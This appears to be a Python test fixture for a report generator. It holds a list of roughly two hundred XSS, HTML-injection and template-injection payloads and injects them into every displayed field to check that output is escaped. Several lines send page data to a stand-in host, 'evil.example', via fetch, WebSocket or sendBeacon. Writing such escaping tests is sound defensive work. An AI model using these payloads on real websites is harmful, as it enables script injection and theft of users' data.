"""Two hundred texts that want to run, to fetch, or to become elements; and pages that hold them wherever they can.

What a text does when it lives is `HIT`: a call that the browser tells of, script or no script.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from types import SimpleNamespace
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from pydantic import BaseModel
from report_fakes import REASON, appraisal, catalogue, family_work, with_areas, with_members, with_research

from costeff.report.appraisals import Appraisal, Variant
from costeff.report.listing import Entry, Result
from costeff.report.page import Page
from costeff.report.words import Words
from costeff.spec import Label

HIT = "costeffHit(`x`)"
EVIL = "http://evil.example"

_WHOLE = f"""<script>{HIT}</script>
<SCRIPT>{HIT}</SCRIPT>
<script >{HIT}</script >
<script/x>{HIT}</script>
<scr<script>ipt>{HIT}</scr</script>ipt>
<script src={EVIL}/a.js></script>
<script src=//evil.example/a.js></script>
<script src="data:text/javascript,{HIT}"></script>
<script type=module>{HIT}</script>
<script type=module>import("{EVIL}/a.js")</script>
<script>fetch("{EVIL}/" + document.title)</script>
<script>new WebSocket("ws://evil.example/")</script>
<script>navigator.sendBeacon("{EVIL}/")</script>
<script>document.write("<b>born</b>")</script>
<script nomodule>{HIT}</script>
<script type=importmap>{{"imports": {{"a": "{EVIL}/a.js"}}}}</script>
<script type=speculationrules>{{"prefetch": [{{"urls": ["{EVIL}/"]}}]}}</script>
</title><script>{HIT}</script>
</style><script>{HIT}</script>
</textarea><script>{HIT}</script>
</noscript><script>{HIT}</script>
</template><script>{HIT}</script>
</table></section></main><script>{HIT}</script>
</caption></table><script>{HIT}</script>
</summary></details><script>{HIT}</script>
</iframe><script>{HIT}</script>
</a><script>{HIT}</script>
--><script>{HIT}</script>
--!><script>{HIT}</script>
]]><script>{HIT}</script>
<!--<script>--><script>{HIT}</script>
<![CDATA[<script>{HIT}</script>]]>
<?xml version="1.0"?><script>{HIT}</script>
<noscript><p title="</noscript><img src=x onerror={HIT}>">
<textarea><p title="</textarea><img src=x onerror={HIT}>">
<style><p title="</style><img src=x onerror={HIT}>">
<title><p title="</title><img src=x onerror={HIT}>">
<xmp><p title="</xmp><img src=x onerror={HIT}>">
<iframe><p title="</iframe><img src=x onerror={HIT}>">
<noembed><p title="</noembed><img src=x onerror={HIT}>">
<plaintext><img src=x onerror={HIT}>
<listing>&lt;img src=x onerror={HIT}&gt;</listing>
<math><mtext><table><mglyph><style><img src=x onerror={HIT}>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={HIT}&gt;">
<svg></p><style><a id="</style><img src=x onerror={HIT}>">
<svg><style><img src=x onerror={HIT}></style></svg>
<svg><script>{HIT}</script></svg>
<svg><script href="data:text/javascript,{HIT}"/></svg>
<svg><a xlink:href="javascript:{HIT}"><text y=20>x</text></a></svg>
<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>
<svg><set attributeName=href to="javascript:{HIT}"></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{HIT}</script></svg>#x"></svg>
<svg><image href="{EVIL}/a.png"></svg>
<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>
<svg><title><img src=x onerror={HIT}></title></svg>
<math><maction actiontype="statusline" xlink:href="javascript:{HIT}">x</maction></math>
<math href="javascript:{HIT}">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>
<iframe src="javascript:{HIT}"></iframe>
<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.{HIT}&gt;"></iframe>
<iframe src={EVIL}></iframe>
<iframe src="data:text/html,<script>parent.{HIT}</script>"></iframe>
<frameset><frame src="javascript:{HIT}"></frameset>
<object data="javascript:{HIT}"></object>
<object data="{EVIL}/a.swf"></object>
<embed src="javascript:{HIT}">
<embed src="{EVIL}/a.svg">
<applet code="{EVIL}/a.class"></applet>
<link rel=stylesheet href={EVIL}/a.css>
<link rel=preload as=image href={EVIL}/a.png>
<link rel=prefetch href={EVIL}/a>
<link rel=preconnect href={EVIL}>
<link rel=icon href={EVIL}/a.ico>
<link rel=manifest href={EVIL}/a.json>
<link rel=import href={EVIL}/a.html>
<link rel=modulepreload href={EVIL}/a.js>
<style>@import '{EVIL}/a.css';</style>
<style>body {{ background: url({EVIL}/a.png) }}</style>
<style>@font-face {{ font-family: x; src: url({EVIL}/a.woff) }} * {{ font-family: x }}</style>
<style>main {{ display: none }}</style>
<p style="background: url({EVIL}/a.png)">x</p>
<p style="position: fixed; inset: 0; background: red">x</p>
<p style="behavior: url({EVIL}/a.htc)">x</p>
<meta http-equiv=refresh content="0;url={EVIL}">
<meta http-equiv=refresh content="0;url=javascript:{HIT}">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta http-equiv=set-cookie content="a=b">
<meta charset=utf-7>+ADw-script+AD4-{HIT}+ADw-/script+AD4-
+ADw-script+AD4-{HIT}+ADw-/script+AD4-
<base href={EVIL}/>
<base target=_top>
<form action={EVIL}><input name=x autofocus onfocus={HIT}></form>
<form><button formaction="javascript:{HIT}">x</button></form>
<form id=x></form><button form=x formaction={EVIL}>x</button>
<input type=image src={EVIL}/a.png>
<input type=hidden oncontentvisibilityautostatechange={HIT} style="content-visibility: auto">
<isindex action="javascript:{HIT}" type=image>
<keygen autofocus onfocus={HIT}>
<bgsound src={EVIL}/a.mid>
<table background={EVIL}/a.png>
<body background={EVIL}/a.png>
<body onload={HIT}>
<html onclick={HIT}>
<img src={EVIL}/a.png>
<img srcset="{EVIL}/a.png 1x">
<img src="data:image/svg+xml,<svg onload={HIT} xmlns='http://www.w3.org/2000/svg'/>">
<img src=x:x onerror={HIT}>
<IMG SRC=x OnErRoR={HIT}>
<img/src=x/onerror={HIT}>
<img src=x onerror={HIT}//
<img src=`x`onerror={HIT}>
<<img src=x onerror={HIT}>
<img ""\"><script>{HIT}</script>">
<img src="x` `<script>{HIT}</script>"` `>
<image src=x onerror={HIT}>
<picture><source srcset={EVIL}/a.png><img src=x></picture>
<video src={EVIL}/a.mp4 autoplay></video>
<video poster={EVIL}/a.png></video>
<video><source onerror={HIT}></video>
<audio src=x onerror={HIT}></audio>
<track src={EVIL}/a.vtt default>
<details open ontoggle={HIT}>x</details>
<dialog open onclose={HIT}>x</dialog>
<marquee onstart={HIT}>x</marquee>
<select autofocus onfocus={HIT}></select>
<p tabindex=0 autofocus onfocus={HIT}>x</p>
<p contenteditable autofocus onfocus={HIT}>x</p>
<p popover id=content onbeforetoggle={HIT}>x</p>
<slot name=x></slot><template shadowrootmode=open><script>{HIT}</script></template>
<custom-element onconnected={HIT}></custom-element>
<a href="javascript:{HIT}">x</a>
<a href=" javascript:{HIT}">x</a>
<a href="java&#9;script:{HIT}">x</a>
<a href="java&#10;script:{HIT}">x</a>
<a href="&#106;avascript:{HIT}">x</a>
<a href="&#x6A&#x61vascript&colon;{HIT}">x</a>
<a href="JaVaScRiPt:{HIT}">x</a>
<a href="\x01javascript:{HIT}">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>{HIT}</script>">x</a>
<a href="blob:null/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.example">x</a>
<a href=x ping={EVIL}>x</a>
<a href="{EVIL}" target=_blank>x</a>
<area href="javascript:{HIT}">
<map name=x><area href={EVIL}></map><img usemap=#x>
<blockquote cite="javascript:{HIT}">x</blockquote>
<h1>born</h1>
<main id=content>born</main>
<p id=content>born</p>
<p class="notice warning" role=note>born</p>
<p aria-hidden=true>born</p>
&lt;script&gt;{HIT}&lt;/script&gt;
&amp;lt;script&amp;gt;{HIT}&amp;lt;/script&amp;gt;
&#60;script&#62;{HIT}&#60;/script&#62;
\\u003cscript\\u003e{HIT}\\u003c/script\\u003e
%3Cscript%3E{HIT}%3C/script%3E
＜script＞{HIT}＜/script＞
\u202e<script>{HIT}</script>
<scr\u0000ipt>{HIT}</script>
<\u0000script>{HIT}</script>
<script\u2028>{HIT}</script>
{{{{ 7 * 7 }}}}{{% raw %}}
{{{{ self.__init__.__globals__ }}}}
{{% include "style.css" %}}
{{# a comment #}}
${{7*7}}<%= 7 * 7 %>#{{7*7}}
{{clients}}{{municipality.__class__}}{{0}}{{}}
%s%n%(clients)s
$\\frac{{$\\undefined
$\\href{{javascript:{HIT}}}{{x}}$
[x](javascript:{HIT})
![x]({EVIL}/a.png)
<javascript:{HIT}>
[x]: {EVIL}/a "x"
```html
# born""".split("\n")
_EVENTS = ("onfocus", "onpointerenter", "onanimationstart", "oncopy")
_BORN = "img src=x", "svg", "b", "video src=x", "body", "input autofocus", "details open", "math", "iframe"
_OUT = tuple(f"{quote} {event}={HIT} x={quote}" for quote in ("'", '"', "`") for event in _EVENTS)
_TAIL = tuple(f'"><{tag} onerror={HIT} onload={HIT} onfocus={HIT} ontoggle={HIT}>' for tag in _BORN)
PAYLOADS = tuple(dict.fromkeys((*_WHOLE, *_OUT, *_TAIL)))


def poisoned(value: Any, text: str) -> Any:
    """The same specification with `text` wherever people are told something."""
    if isinstance(value, Label):
        return Label(fi=text, sv=text, en=text)
    if isinstance(value, BaseModel):
        changed = {name: poisoned(getattr(value, name), text) for name in type(value).model_fields}
        return value.model_copy(update=changed)
    if isinstance(value, SimpleNamespace):
        told = {"title", "publisher", "published"}
        return SimpleNamespace(**{k: text if k in told else poisoned(v, text) for k, v in vars(value).items()})
    if isinstance(value, tuple | list):
        return type(value)(poisoned(one, text) for one in value)
    if isinstance(value, dict):
        return {key: poisoned(one, text) for key, one in value.items()}
    return value


def names_of(texts: dict[str, str], whole: str) -> SimpleNamespace:
    """A catalogue with a chain of each name in `texts`, telling its text; what all chains share tells the whole."""
    names = poisoned(catalogue(), whole)
    names.chains = {name: poisoned(family_work(), text) for name, text in texts.items()}
    names.sources["quoted_2018"].url = f"https://www.example.org/{whole}"
    names.sources["unit_costs_2025"].url = whole
    return names


def told_by(text: str, whole: str, **attrs: object) -> dict[str, object]:
    """Attributes of an appraisal with `text` in each that is a text, and `whole` in those of the municipality."""
    places = ("municipality_fi", "municipality_sv", "municipality_en", "county_fi", "county_sv", "county_en")
    places += ("similar_fi", "similar_sv", "similar_en")
    told = ("input_hash", "version", "unit", "price_year", "service_price_year")
    return {
        **dict.fromkeys(places, whole), **dict.fromkeys(told, text),
        "sources": json.dumps(["unit_costs_2025", "quoted_2018", text]),
        "not_counted": json.dumps([{"fi": text, "sv": text, "en": text}]),
        "gate_reasons": json.dumps([REASON | {"where": text}]),
        "links_off": json.dumps(["later_prison", text]), "claw_back": 1, "whole_units": 1, "county": "90", **attrs,
    }  # fmt: skip


def short_page(texts: Sequence[str], language: str) -> Page:
    """A chain for each text, whose model failed its checks: answer, limits, prices and sources, without figures."""
    whole = " ".join(texts)
    chains = {f"chain_{number}": text for number, text in enumerate(texts)}
    plain = appraisal(years=3, gate_passed=0)
    made = (
        (name, plain.assign_attrs(told_by(text, whole, gate_passed=0, order=number, price_set=price_set)))
        for number, (name, text) in enumerate(chains.items())
        for price_set in ("quoted", text)
    )
    variants: dict[str, list[Variant]] = {}
    for name, data in made:
        variants.setdefault(name, []).append(Variant(name, data))
    found = tuple(Appraisal(name, tuple(each)) for name, each in variants.items())
    return Page(Words(language), names_of(chains, whole), found)


def full_page(text: str, language: str) -> Page:
    """One chain with all its sections and figures, research and links."""
    data = with_research(appraisal(linked=0.2, links=json.dumps(["later_care"])), sources=["quoted_2018", text])
    data = with_members(with_areas(data), {"165": text, "061": f"A {text}"})
    found = [data.assign_attrs(told_by(text, text)), appraisal(price_set=text).assign_attrs(told_by(text, text))]
    return Page(
        Words(language),
        names_of({"family_work": text}, text),
        (Appraisal("family_work", tuple(Variant("family_work", one) for one in found)),),
    )


def entries(texts: Sequence[str], language: str) -> list[Entry]:
    """A municipality for each text; every tenth has a county and a service of its own name."""
    return [
        Entry(
            f"{number:03}", text, texts[number // 10], {language: "001.fi.html", "en": "001.en.html"},
            (Result(texts[number // 10], text, text),), synthetic=True, note=text,
        )
        for number, text in enumerate(texts)
    ]  # fmt: skip


def outputs(texts: Sequence[str]) -> nbformat.NotebookNode:
    """A notebook of others: each text as HTML, and as prose for readers."""
    told = [new_code_cell("x", outputs=[new_output("display_data", {"text/html": text})]) for text in texts]
    prose = [new_markdown_cell(text, metadata={"tags": ["reader"]}) for text in texts]
    return new_notebook(cells=[*told, *prose])
